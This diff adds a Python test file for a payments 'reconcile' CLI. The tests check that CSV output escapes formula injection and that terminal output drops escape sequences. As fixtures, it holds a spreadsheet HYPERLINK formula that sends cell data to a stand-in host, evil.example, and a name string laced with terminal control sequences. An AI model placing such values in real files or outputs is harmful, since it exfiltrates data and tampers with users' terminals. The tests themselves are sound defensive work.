@@ -1,0 +1,47 @@
+"""What reconcile prints and writes from values in a file cannot act on the reader's machine: a CSV cell
+never becomes a formula in a spreadsheet, a terminal never receives an escape sequence (issue 18)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from click.testing import CliRunner
+
+from reconcile.cli import cli
+
+from test_pipeline import PAYMENTS, REGISTRY, month
+
+HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Xem")'
+ESCAPE = "NGUYEN\x1b[2J\x1b]0;owned\x07 VAN HUNG"
+
+
+def hostile_month(tmp_path, payee):
+    payments = [row[:] for row in PAYMENTS]
+    payments[0][2] = payee  # a payee name that differs from the registry's: a NAME_MISMATCH shows it
+    reg, pay = month(tmp_path, REGISTRY, payments)
+    db = tmp_path / "r.duckdb"
+    res = CliRunner().invoke(cli, ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg),
+                                   "--payments", str(pay)])
+    assert res.exit_code == 0, res.output
+    return db
+
+
+def test_read_back_csv_writes_a_formula_as_text(tmp_path):
+    db = hostile_month(tmp_path, HOSTILE)
+    res = CliRunner().invoke(cli, ["flags", "--db", str(db), "--format", "csv"])
+    assert res.exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(res.stdout)))
+    assert [r["payee_name"] for r in rows if r["code"] == "NAME_MISMATCH"] == ["'" + HOSTILE]
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
+    # a number stays a number
+    assert {r["paid_amount"] for r in rows} == {"1500000"}
+
+
+def test_the_terminal_gets_no_escape_sequence(tmp_path):
+    db = hostile_month(tmp_path, ESCAPE)
+    for command in (["flags"], ["show", "001087012345"]):
+        res = CliRunner().invoke(cli, [*command, "--db", str(db)])
+        assert res.exit_code == 0, res.output
+        assert "NGUYEN [2J ]0;owned  VAN HUNG" in res.stdout
+        assert not any(ch in res.stdout for ch in "\x1b\x07")
